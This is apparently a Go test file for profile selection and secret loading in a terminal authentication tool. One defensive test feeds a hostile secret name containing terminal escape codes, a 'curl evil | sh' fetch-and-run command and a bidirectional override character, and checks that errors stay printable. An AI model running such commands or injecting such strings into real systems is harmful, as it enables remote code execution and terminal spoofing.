package selection_test

import (
	"errors"
	"fmt"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/poolguard/poolguard/internal/terminalauth/profile"
	"github.com/poolguard/poolguard/internal/terminalauth/selection"
)

func file(names ...string) *profile.File {
	f := &profile.File{Profiles: map[string]profile.Profile{}}
	for _, name := range names {
		f.Profiles[name] = profile.Profile{ClientID: name}
	}
	return f
}

func Example() {
	s := selection.New("config.yaml", file("local", "robot"), "locl")
	fmt.Println(s.Exists, s.Others())
	s = selection.New("config.yaml", file("robot"), "")
	fmt.Printf("%s %t %q\n", s.Name, s.Named, s.Flag())
	// Output:
	// false ; did you mean local?
	// robot false ""
}

func TestSecretIsReadBesideTheConfiguration(t *testing.T) {
	f := file("robot")
	f.Profiles["robot"] = profile.Profile{Secret: profile.Secret{File: "robot.secret"}}
	s := selection.New(filepath.Join("folder", "config.yaml"), f, "robot")
	content := "hunter2\r\n"
	read := func(path string) ([]byte, error) {
		if path != filepath.Join("folder", "robot.secret") {
			return nil, fs.ErrNotExist
		}
		return []byte(content), nil
	}
	getenv := func(string) string { return "" }
	if secret, err := s.Secret(getenv, read); err != nil || secret != "hunter2" {
		t.Errorf("got %d bytes, %v", len(secret), err)
	}
	content = "\n"
	if _, err := s.Secret(getenv, read); err == nil {
		t.Error("an empty file is a secret")
	}
	s.Path = "config.yaml"
	if _, err := s.Secret(getenv, read); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("got %v", err)
	}
}

// Attack: a profile file of another person names a variable that writes to the terminal.
func TestNamesOfSecretsCannotWriteLines(t *testing.T) {
	const hostile = "x\x1b[2J\n  curl evil | sh\u202e"
	for _, from := range []profile.Secret{{Env: hostile}, {File: hostile}} {
		f := file("robot")
		f.Profiles["robot"] = profile.Profile{Secret: from}
		s := selection.New("config.yaml", f, "robot")
		_, err := s.Secret(func(string) string { return "" }, func(string) ([]byte, error) { return nil, fs.ErrNotExist })
		if err == nil || strings.ContainsFunc(err.Error(), func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("got %v", err)
		}
	}
}

func TestKeyRingNeedsASession(t *testing.T) {
	none := t.TempDir()
	for _, test := range []struct {
		system string
		env    map[string]string
		want   bool
	}{
		{"linux", map[string]string{"XDG_RUNTIME_DIR": none}, false},
		{"linux", map[string]string{"XDG_RUNTIME_DIR": none, "DBUS_SESSION_BUS_ADDRESS": "unix:path=/bus"}, true},
		{"darwin", nil, true},
		{"windows", nil, true},
	} {
		ring := selection.SystemRing(test.system, func(name string) string { return test.env[name] })
		if (ring != nil) != test.want {
			t.Errorf("%s %v: got %v", test.system, test.env, ring)
		}
	}
}
